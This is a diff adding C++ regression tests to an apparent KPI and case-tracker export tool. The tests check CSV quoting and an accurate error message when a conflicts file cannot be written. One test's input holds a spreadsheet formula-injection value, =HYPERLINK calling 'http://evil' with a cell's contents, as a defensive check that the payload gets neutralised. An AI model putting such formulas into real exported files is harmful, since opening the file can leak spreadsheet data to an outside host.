@@ -2,6 +2,8 @@
 // publish wrong figures with exit 0, or overwrite good records, before its fix.
 #include <gtest/gtest.h>
 #include <sqlite3.h>
+#include <sys/stat.h>
+#include <unistd.h>
 
 #include <filesystem>
 
@@ -204,6 +206,37 @@ TEST_F(Sen2Keys, ASecondFileOfTheSameYearIsRefusedAndARenamedReturnTakesOver) {
   EXPECT_EQ(r.code, 0) << r.output;
   EXPECT_NE(r.output.find("now comes from this file"), std::string::npos) << r.output;
   EXPECT_EQ(surnames(2026), "Other") << "the old file's records went with it";
+}
+
+}  // namespace
+}  // namespace sendhub
+
+namespace sendhub {
+namespace {
+
+// 15.4: a request_ref of =HYPERLINK(...) was written verbatim to open_cases.csv, and a value
+// X,Y shifted every column.
+TEST_F(WrongData, CaseTrackerCellsAreQuotedAndFormulasNeutralised) {
+  test::write_file(dir_ / "in/requests.csv",
+                   "Ref,Person,Received\n\"=HYPERLINK(\"\"http://evil\"\"&B2,\"\"x\"\")\",P1,03/12/2025\n\"R,2\",P2,04/12/2025\n");
+  auto r = run(cms_config(R"([{"name": "kpis", "connector": "kpi_extract", "out": "out", "as_at": "2026-01-15",
+                               "from": "2025-01-01", "to": "2026-01-15"}])"));
+  ASSERT_LE(r.code, 1) << r.output;
+  const std::string cases = test::read_file(dir_ / "out/open_cases.csv");
+  EXPECT_NE(cases.find("\"'=HYPERLINK(\"\"http://evil\"\"&B2,\"\"x\"\")\","), std::string::npos) << cases;
+  EXPECT_NE(cases.find("\"R,2\","), std::string::npos) << cases;
+  EXPECT_EQ(cases.find("\n=HYPERLINK"), std::string::npos);
+}
+
+// 15.7: when conflicts.csv could not be written, "links unchanged" was logged though the
+// links were saved.
+TEST_F(WrongData, AConflictsFileThatCannotBeWrittenIsToldApartFromFailedLinking) {
+  // A folder where the file should go: the rename fails even for root (tests run as root).
+  std::filesystem::create_directories(dir_ / "out/conflicts.csv/occupied");
+  auto r = run(cms_config("[]", R"(, "conflicts": "out/conflicts.csv")"));
+  EXPECT_EQ(r.code, 3) << r.output;
+  EXPECT_NE(r.output.find("links saved, but conflicts.csv could not be written"), std::string::npos) << r.output;
+  EXPECT_EQ(r.output.find("links are as before"), std::string::npos) << r.output;
 }
 
 }  // namespace
